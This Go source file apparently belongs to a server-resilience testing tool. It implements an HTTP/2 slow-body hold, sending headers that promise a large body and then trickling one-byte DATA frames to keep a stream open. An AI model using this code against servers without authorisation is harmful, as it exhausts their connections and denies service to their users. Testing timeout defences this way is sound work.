package attackers

import (
	"errors"
	"io"
	"strconv"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// h2Body parks a request inside its body, on one stream.
//
//	client                                server
//	  |-- preface, SETTINGS, their ACK ---->|
//	  |-- HEADERS, content-length 1000000 ->|
//	  |-- DATA: stalemate= ---------------->|  waits for the other 999,990 bytes
//	  |.. trickle: DATA frames of 1 byte ...|
//
// A request ends with the END_STREAM flag (RFC 9113 section 8.1). nginx bounds the wait
// by client_body_timeout, Apache by RequestReadTimeout body=. The trickle sends as many
// bytes as the server's window allows. A final answer at once, before the body is complete,
// refuses this stage: the server then has to reset the stream or to close the connection.
//
// The hold is the stream: a RST_STREAM on it, or a final status, is the release, and
// the connection may stay.
func h2Body() implementation {
	return implementation{reach: reachH2Body}
}

// h2DataByte is a DATA frame with one byte (RFC 9113 section 6.1).
const h2DataByte = "\x00\x00\x01\x00\x00\x00\x00\x00\x01a"

func reachH2Body(c *client) error {
	if err := c.negotiateHTTP2(); err != nil {
		return err
	}
	if err := c.openHTTP2(); err != nil {
		return err
	}
	c.step = "send the head and the beginning of the body"
	begin := bodyBegin[:min(len(bodyBegin), int(c.h2.window))] // a window of 0 leaves the head
	c.trickle = trickleData(c.rw(), int(c.h2.window)-len(begin))
	c.h2.opened = true
	path := c.hold.Request.Body
	if path == "" {
		path = c.hold.Request.Path
	}
	block := h2Block(c.hold.Request, "POST", path, c.hold.Address,
		hpack.HeaderField{Name: "content-length", Value: strconv.Itoa(bodyLength)},
		hpack.HeaderField{Name: "content-type", Value: "application/x-www-form-urlencoded"})
	return errors.Join(
		c.h2.WriteHeaders(http2.HeadersFrameParam{StreamID: h2Stream, BlockFragment: block, EndHeaders: true}),
		c.h2.WriteData(h2Stream, false, []byte(begin)),
		c.h2.flush())
}

// trickleData sends that many bytes of a body, one a step, each in its own frame.
func trickleData(w io.Writer, count int) trickle {
	return func() error {
		if count == 0 {
			return errTrickleEnd
		}
		count--
		_, err := io.WriteString(w, h2DataByte)
		return err
	}
}
